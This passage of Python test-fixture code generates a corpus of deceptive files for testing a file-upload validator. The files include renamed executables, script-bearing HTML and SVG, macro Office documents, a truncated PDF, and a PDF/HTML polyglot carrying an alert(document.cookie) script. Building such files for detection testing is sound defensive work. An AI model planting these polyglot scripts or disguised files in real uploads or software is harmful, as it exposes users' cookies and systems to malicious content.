    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", FRENCH_TEXT.encode("utf-8"))
    return path


def make_truncated_pdf(path) -> Path:
    """An fpdf2 PDF cut to half its length: %PDF- header but no xref, trailer or %%EOF.
    libmagic still says application/pdf."""
    path = _prepare(path)
    make_pdf(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def make_empty(path) -> Path:
    """A 0-byte file. libmagic: application/x-empty (inode/x-empty from from_file)."""
    path = _prepare(path)
    path.write_bytes(b"")
    return path


def make_polyglot_pdf_html(path) -> Path:
    """A complete fpdf2 PDF followed by an HTML <script> block after %%EOF (a PDF/HTML
    polyglot). libmagic: application/pdf."""
    path = _prepare(path)
    make_pdf(path)
    with open(path, "ab") as out:
        out.write(b"\n<html><body><script>alert(document.cookie)</script></body></html>\n")
    return path


BAD_CORPUS = {
    "executable_renamed.pdf": make_elf,
    "windows_exe_renamed.pdf": make_windows_exe,
    "html_script_renamed.pdf": make_html_script,
    "svg_script_renamed.pdf": make_svg_script,
    "zip_renamed.docx": make_plain_zip,
    "macro.docm": make_docm,
    "macro.xlsm": make_xlsm,
    "truncated.pdf": make_truncated_pdf,
    "empty.pdf": make_empty,
    "polyglot_pdf_html.pdf": make_polyglot_pdf_html,
}


def write_bad_corpus(directory=BAD_CORPUS_DIR) -> list[Path]:
    """(Re)write every file of the bad corpus into ``directory``; returns their paths."""
    directory = Path(directory)
    return [maker(directory / name) for name, maker in BAD_CORPUS.items()]
